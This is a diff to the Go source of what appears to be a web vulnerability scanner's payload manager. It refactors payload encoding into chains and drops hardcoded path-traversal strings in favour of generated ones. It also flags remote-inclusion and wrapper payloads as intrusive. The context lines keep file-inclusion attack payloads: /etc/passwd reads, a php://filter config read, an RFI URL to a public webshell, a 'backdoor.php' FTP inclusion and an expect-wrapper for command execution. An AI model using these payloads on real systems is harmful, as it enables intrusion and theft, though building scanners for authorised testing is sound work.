@@ -2,10 +2,6 @@
 package webvuln
 
 import (
-	"encoding/base64"
-	"fmt"
-	"html"
-	"net/url"
 	"strings"
 )
 
@@ -74,26 +70,10 @@ func (pm *PayloadManager) GetPayloads(vulnType VulnerabilityType) []Payload {
 	return result
 }
 
-// EncodePayload applies the specified encoding to a payload
+// EncodePayload applies an encoding or an encoding chain such as
+// "unicode-escape>url" to a payload. Unknown encodings leave it unchanged.
 func (pm *PayloadManager) EncodePayload(payload, encoding string) string {
-	switch strings.ToLower(encoding) {
-	case "url":
-		return url.QueryEscape(payload)
-	case "double-url":
-		return url.QueryEscape(url.QueryEscape(payload))
-	case "html":
-		return html.EscapeString(payload)
-	case "base64":
-		return base64.StdEncoding.EncodeToString([]byte(payload))
-	case "hex":
-		var hexStr string
-		for _, ch := range payload {
-			hexStr += fmt.Sprintf("%%%02x", ch)
-		}
-		return hexStr
-	default:
-		return payload
-	}
+	return EncodeChain(payload, strings.Split(encoding, chainSeparator))
 }
 
 // initXSSPayloads initializes XSS test payloads
@@ -309,19 +289,8 @@ func (pm *PayloadManager) initSQLInjectionPayloads() {
 // initFileInclusionPayloads initializes LFI/RFI test payloads
 func (pm *PayloadManager) initFileInclusionPayloads() {
 	pm.FileInclusionPayloads = []Payload{
-		// Level 1: Basic LFI
-		{
-			Value:       "../../../../../etc/passwd",
-			Type:        VulnTypeFileInclusion,
-			Description: "Basic path traversal to /etc/passwd",
-			Level:       1,
-		},
-		{
-			Value:       "..\\..\\..\\..\\..\\windows\\win.ini",
-			Type:        VulnTypeFileInclusion,
-			Description: "Windows path traversal to win.ini",
-			Level:       1,
-		},
+		// Level 1: Basic LFI. Path traversal payloads are generated per
+		// target file and depth, see traversalPayloads.
 		{
 			Value:       "/etc/passwd",
 			Type:        VulnTypeFileInclusion,
@@ -329,33 +298,7 @@ func (pm *PayloadManager) initFileInclusionPayloads() {
 			Level:       1,
 		},
 
-		// Level 2: Path traversal with evasion techniques
-		{
-			Value:       "....//....//....//....//....//etc/passwd",
-			Type:        VulnTypeFileInclusion,
-			Description: "Path traversal with nested traversal sequences",
-			Level:       2,
-		},
-		{
-			Value:       "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
-			Type:        VulnTypeFileInclusion,
-			Description: "URL encoded path traversal",
-			Level:       2,
-		},
-		{
-			Value:       "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
-			Type:        VulnTypeFileInclusion,
-			Description: "Double URL encoded path traversal",
-			Level:       2,
-		},
-
-		// Level 3: Null byte injection and wrappers
-		{
-			Value:       "../../../../../etc/passwd%00",
-			Type:        VulnTypeFileInclusion,
-			Description: "Null byte to bypass extension check",
-			Level:       3,
-		},
+		// Level 3: Wrappers
 		{
 			Value:       "php://filter/convert.base64-encode/resource=config.php",
 			Type:        VulnTypeFileInclusion,
@@ -367,6 +310,7 @@ func (pm *PayloadManager) initFileInclusionPayloads() {
 			Type:        VulnTypeFileInclusion,
 			Description: "Data wrapper with base64 encoded PHP code",
 			Level:       3,
+			Intrusive:   true,
 		},
 
 		// Level 4: Remote file inclusion
@@ -375,18 +319,21 @@ func (pm *PayloadManager) initFileInclusionPayloads() {
 			Type:        VulnTypeFileInclusion,
 			Description: "Basic remote file inclusion",
 			Level:       4,
+			Intrusive:   true,
 		},
 		{
 			Value:       "https://raw.githubusercontent.com/tennc/webshell/master/php/PHPshell/phpkit.php",
 			Type:        VulnTypeFileInclusion,
 			Description: "RFI pointing to a public webshell",
 			Level:       4,
+			Intrusive:   true,
 		},
 		{
 			Value:       "ftp://example.com/pub/backdoor.php",
 			Type:        VulnTypeFileInclusion,
 			Description: "FTP protocol remote inclusion",
 			Level:       4,
+			Intrusive:   true,
 		},
 
 		// Level 5: Advanced techniques
@@ -395,6 +342,7 @@ func (pm *PayloadManager) initFileInclusionPayloads() {
 			Type:        VulnTypeFileInclusion,
 			Description: "Expect wrapper for command execution",
 			Level:       5,
+			Intrusive:   true,
 		},
 		{
 			Value:       "zip://shell.jpg%23payload.php",
@@ -561,6 +509,12 @@ func (pm *PayloadManager) initMisconfigurationChecks() {
 			Description: "Debug mode enabled",
 			Level:       4,
 		},
+		{
+			Value:       "CICD_CONSOLES",
+			Type:        VulnTypeMisconfiguration,
+			Description: "Exposed CI/CD consoles and unauthenticated APIs",
+			Level:       4,
+		},
 
 		// Level 5: Advanced misconfigurations
 		{
@@ -771,6 +725,12 @@ func (pm *PayloadManager) initInfoDisclosureChecks() {
 			Description: "Information disclosure in HEAD response",
 			Level:       4,
 		},
+		{
+			Value:       "VERB_TAMPERING",
+			Type:        VulnTypeInfoDisclosure,
+			Description: "Access control bypass with other HTTP methods",
+			Level:       4,
+		},
 
 		// Level 5: Advanced enumeration
 		{